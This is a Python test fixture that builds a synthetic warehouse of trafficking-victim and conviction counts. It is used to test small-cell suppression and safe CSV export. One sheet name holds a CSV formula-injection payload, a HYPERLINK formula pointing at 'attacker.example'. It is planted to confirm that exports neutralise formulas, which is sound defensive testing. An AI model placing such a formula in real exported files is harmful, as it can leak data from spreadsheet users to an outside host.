"""A synthetic warehouse with known small cells, for the export and disclosure tests.

Six members, two years. victims_detected is a full cube: sex (female, male) x age (child, adult)
x exploitation (sexual, labour, other), with every margin (36 cells per country-year), plus a
one-way citizenship breakdown; persons_convicted a sex x age cube. Counts are Poisson with small
means, so many cells are 1 to 4. On top of that:

* BRB: cells from 1 to 4 arrive already suppressed (value NULL, flag suppressed), as in GLOTIP;
* TTO: a grand total of 4 (a small country total, which the regional sums must not reveal);
* GUY 2021: victims of unknown sex and age (one cell unknown in both, the GLOTIP layout);
* DOM 2022: an inconsistent total (smaller than its parts), flagged inconsistent_total;
* JAM 2021: a sheet name `=HYPERLINK(...)`, to check that no CSV cell can start a formula.

Optionally, mart_estimates and mart_regional_estimates built like the estimate package builds
them: reported cells as nature C (the value itself), missing parts as total minus the reported
parts (E), members without reports modelled (M), parts adding up to their total, and regional
estimates the sum of the members' estimates."""

from __future__ import annotations

import itertools
from pathlib import Path

import duckdb
import numpy as np
import pandas as pd
import pytest

from ctip.contracts import columns
from ctip.region import dim_country
from ctip.schema import KEY_COLUMNS
from ctip.warehouse.build import build_marts, dim_indicator, write_tables

COUNTRIES = ["JAM", "TTO", "BRB", "GUY", "BHS", "DOM"]
YEARS = [2021, 2022]
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak","Open")'
SEXES, AGES, FORMS = ("female", "male"), ("child", "adult"), ("sexual", "labour", "other")


def _row(country, year, indicator, sex, age, form, cit, value, flag=None, sheet="Victims", cell="B2"):
    return {
        "country_iso3": country,
        "year": year,
        "indicator": indicator,
        "sex": sex,
        "age_group": age,
        "exploitation": form,
        "citizenship": cit,
        "value": value,
        "flag": flag,
        "submission_id": f"{country.lower()}{year}abcdef0123"[:16],
        "source_file": f"{country}/{year}.xlsx",
        "source_sheet": sheet,
        "source_cell": cell,
    }


def synthetic_fact(seed: int = 2024) -> pd.DataFrame:
    rng = np.random.default_rng(seed)
    rows = []
    for country, year in itertools.product(COUNTRIES, YEARS):
        scale = {"JAM": 1.0, "TTO": 0.1, "BRB": 0.8, "GUY": 1.5, "BHS": 0.6, "DOM": 3.0}[country]
        base = {("female", "child", "sexual"): 3, ("female", "adult", "sexual"): 6, ("male", "adult", "labour"): 4}
        leaf = {k: int(rng.poisson(scale * base.get(k, 1.2))) for k in itertools.product(SEXES, AGES, FORMS)}
        if country == "TTO":  # a small country total: 4 victims
            leaf = {k: 0 for k in leaf}
            leaf[("female", "adult", "sexual")] = 3
            leaf[("male", "adult", "labour")] = 1
        for sex, age, form in itertools.product((*SEXES, "total"), (*AGES, "total"), (*FORMS, "total")):
            value = sum(v for (s, a, f), v in leaf.items() if sex in (s, "total") and age in (a, "total") and form in (f, "total"))
            rows.append(
                _row(
                    country,
                    year,
                    "victims_detected",
                    sex,
                    age,
                    form,
                    "total",
                    value,
                    cell=f"{'FMT'[(*SEXES, 'total').index(sex)]}{(*AGES, 'total').index(age)}{form[0]}",
                )
            )
        total = rows[-1]["value"]
        national = int(rng.binomial(total, 0.6))
        rows.append(_row(country, year, "victims_detected", "total", "total", "total", "national", national, cell="N1"))
        rows.append(_row(country, year, "victims_detected", "total", "total", "total", "foreign", total - national, cell="N2"))
        convicted = {k: int(rng.poisson(scale * 1.5)) for k in itertools.product(SEXES, AGES)}
        for sex, age in itertools.product((*SEXES, "total"), (*AGES, "total")):
            value = sum(v for (s, a), v in convicted.items() if sex in (s, "total") and age in (a, "total"))
            rows.append(_row(country, year, "persons_convicted", sex, age, "total", "total", value, sheet="Justice"))
    fact = pd.DataFrame(rows, columns=columns("fact_observation"))
    key = fact.set_index(list(KEY_COLUMNS)).index

    def at(country, year, indicator, sex="total", age="total", form="total", cit="total"):
        return key.get_loc((country, year, indicator, sex, age, form, cit))

    # GUY 2021: 3 victims of unknown sex and age (counted in the totals and in `sexual`).
    fact.loc[at("GUY", 2021, "victims_detected"), "value"] += 3
    fact.loc[at("GUY", 2021, "victims_detected", form="sexual"), "value"] += 3
    fact.loc[at("GUY", 2021, "victims_detected", cit="national"), "value"] += 3
    fact = pd.concat([fact, pd.DataFrame([_row("GUY", 2021, "victims_detected", "unknown", "unknown", "total", "total", 3)])], ignore_index=True)
    # DOM 2022: a total smaller than its parts, as reported.
    i = at("DOM", 2022, "victims_detected", age="child")
    fact.loc[i, "value"] = max(int(fact.loc[i, "value"]) - 2, 0)
    fact.loc[i, "flag"] = "inconsistent_total"
    # JAM 2021: a formula in a label.
    fact.loc[at("JAM", 2021, "victims_detected"), "source_sheet"] = HYPERLINK
    # BRB: the source suppressed its small cells.
    small = fact["country_iso3"].eq("BRB") & fact["value"].between(1, 4)
    fact.loc[small, "flag"] = "suppressed"
    fact["value"] = pd.array(fact["value"], dtype="Int64")
    fact.loc[small, "value"] = pd.NA
    fact["year"] = fact["year"].astype("int64")
    return fact.sort_values(list(KEY_COLUMNS)).reset_index(drop=True)


def synthetic_population(members: list[str]) -> pd.DataFrame:
    return pd.DataFrame([{"iso3": m, "year": y, "population": float(50_000 + 37_000 * i), "source": "synthetic"} for i, m in enumerate(members) for y in YEARS])


def _split(total: float, known: dict[str, float], parts: tuple[str, ...], shares: dict[str, float]) -> dict[str, float]:
    """Parts that add up to the total: known parts kept, the rest of the total shared out."""
    rest = [p for p in parts if p not in known]
    remaining = max(total - sum(known.values()), 0.0)
    weight = sum(shares[p] for p in rest) or 1.0
    return {**known, **{p: remaining * shares[p] / weight for p in rest}}


def synthetic_estimates(fact: pd.DataFrame, members: list[str], population: pd.DataFrame) -> tuple[pd.DataFrame, pd.DataFrame]:
    cells = fact[fact["age_group"].eq("total") & fact["citizenship"].eq("total")]
    value = {(r.country_iso3, r.year, r.indicator, r.sex, r.exploitation): r.value for r in cells.itertuples()}
    flag = {(r.country_iso3, r.year, r.indicator, r.sex, r.exploitation): r.flag for r in cells.itertuples()}
    pop = {(r.iso3, r.year): r.population for r in population.itertuples()}
    rows = []
    families = {"sex": (SEXES, {"female": 0.6, "male": 0.4}), "exploitation": (FORMS, {"sexual": 0.6, "labour": 0.3, "other": 0.1})}
    for country, year, indicator in itertools.product(members, YEARS, ("victims_detected", "persons_convicted")):
        k = (country, year, indicator)
        reported = lambda sex="total", form="total": value.get((*k, sex, form))  # noqa: E731
        total = reported()
        if total is not None and not pd.isna(total):
            t_est, t_nat, t_method = float(total), "C", "reported"
        elif flag.get((*k, "total", "total")) == "suppressed":
            t_est, t_nat, t_method = 2.5, "E", "eb_negbin_censored"
        else:
            t_est, t_nat, t_method = 1e-4 * pop[(country, year)] * (3 if indicator == "victims_detected" else 1), "M", "regional_model"
        rows.append((country, year, indicator, "total", "total", t_est, t_nat, t_method))
        dims = families if indicator == "victims_detected" else {"sex": families["sex"]}
        for dim, (parts, shares) in dims.items():
            known = {}
            for p in parts:
                v = reported(sex=p) if dim == "sex" else reported(form=p)
                if v is not None and not pd.isna(v):
                    known[p] = float(v)
            split = _split(t_est, known, parts, shares)
            for p in parts:
                nature = "C" if p in known else ("M" if t_nat == "M" else "E")
                sex, form = (p, "total") if dim == "sex" else ("total", p)
                rows.append((country, year, indicator, sex, form, split[p], nature, "reported" if nature == "C" else "share_of_total"))
    est = pd.DataFrame(rows, columns=["country_iso3", "year", "indicator", "sex", "exploitation", "estimate", "nature", "method"])
    est["age_group"] = "total"
    est["citizenship"] = "total"
    est["lower_95"] = np.where(est["nature"] == "C", est["estimate"], est["estimate"] * 0.5)
    est["upper_95"] = np.where(est["nature"] == "C", est["estimate"], est["estimate"] * 2 + 1)
    est["note"] = np.where(est["nature"] == "C", "reported by the country", "expected number, not prevalence")
    est["median"] = est["estimate"]
    est = est.reindex(columns=columns("mart_estimates"))  # a column the model adds later stays empty here
    reg = est.groupby(["year", "indicator", "sex", "exploitation"], as_index=False).agg(
        estimate=("estimate", "sum"), n_countries_reporting=("nature", lambda s: int((s == "C").sum()))
    )
    reg["lower_95"] = reg["estimate"] * 0.8
    reg["upper_95"] = reg["estimate"] * 1.2
    reg["median"] = reg["estimate"]
    reg["nature"] = "M"
    reg["imputed_share"] = 0.3
    reg["population_share_reporting"] = 0.6
    reg["publishable"] = True
    reg["reason"] = ""
    return est, reg.reindex(columns=columns("mart_regional_estimates"))


def build_synthetic_warehouse(path: Path, with_estimates: bool = False) -> dict[str, pd.DataFrame]:
    fact = synthetic_fact()
    countries = dim_country()
    members = countries["country_iso3"].tolist()
    population = synthetic_population(members)
    tables = {
        "submissions": pd.DataFrame(columns=columns("submissions")).astype("string"),
        "fact_observation": fact,
        "fact_observation_history": pd.DataFrame(columns=columns("fact_observation_history")).astype("string"),
        "quarantine": pd.DataFrame(columns=columns("quarantine")).astype("string"),
        "dim_country": countries,
        "dim_indicator": dim_indicator(),
        "ref_population": population,
    }
    if with_estimates:
        tables["mart_estimates"], tables["mart_regional_estimates"] = synthetic_estimates(fact, members, population)
    with duckdb.connect(str(path)) as con:
        write_tables(con, tables)
        build_marts(con)
        from tests.flows.synthetic_flows import add_flow_tables

        add_flow_tables(con)  # fact_flow with known truth, dim_partner and the flow marts (issue 12)
        con.execute("checkpoint")
    return tables


@pytest.fixture
def synthetic_warehouse(tmp_path) -> Path:
    path = tmp_path / "warehouse.duckdb"
    build_synthetic_warehouse(path)
    return path


@pytest.fixture
def synthetic_warehouse_with_estimates(tmp_path) -> Path:
    path = tmp_path / "warehouse.duckdb"
    build_synthetic_warehouse(path, with_estimates=True)
    return path


@pytest.fixture(scope="session")
def _glotip_build(tmp_path_factory) -> Path:
    """The real GLOTIP export (committed in data/raw/UNODC) built into a private warehouse once."""
    from ctip.intake.discover import describe_file
    from ctip.paths import PROJECT_ROOT
    from ctip.pipeline import stage_submission
    from ctip.warehouse.build import build_warehouse

    raw = PROJECT_ROOT / "data" / "raw"
    source = raw / "UNODC" / "data_glotip.xlsx"
    if not source.exists():
        pytest.skip("data/raw/UNODC/data_glotip.xlsx is missing")
    root = tmp_path_factory.mktemp("glotip")
    result, _ = stage_submission(describe_file(source, raw), staging_root=root / "staging", feedback_root=root / "feedback")
    target = root / "warehouse.duckdb"
    build_warehouse([result], target)
    return target


@pytest.fixture
def glotip_warehouse(_glotip_build, tmp_path) -> Path:
    """A private copy of the real warehouse."""
    import shutil

    target = tmp_path / "glotip.duckdb"
    shutil.copyfile(_glotip_build, target)
    return target


@pytest.fixture(scope="session")
def synthetic_exports(tmp_path_factory) -> tuple[Path, Path]:
    """(warehouse, exports folder) of the synthetic warehouse without estimates, written once."""
    from ctip.export import write_exports

    root = tmp_path_factory.mktemp("synthetic")
    warehouse = root / "warehouse.duckdb"
    build_synthetic_warehouse(warehouse)
    write_exports(warehouse, root / "exports")
    return warehouse, root / "exports"


@pytest.fixture(scope="session")
def synthetic_exports_with_estimates(tmp_path_factory) -> tuple[Path, Path]:
    """(warehouse, exports folder) with mart_estimates and mart_regional_estimates, written once."""
    from ctip.export import write_exports

    root = tmp_path_factory.mktemp("synthetic_estimates")
    warehouse = root / "warehouse.duckdb"
    build_synthetic_warehouse(warehouse, with_estimates=True)
    write_exports(warehouse, root / "exports")
    return warehouse, root / "exports"
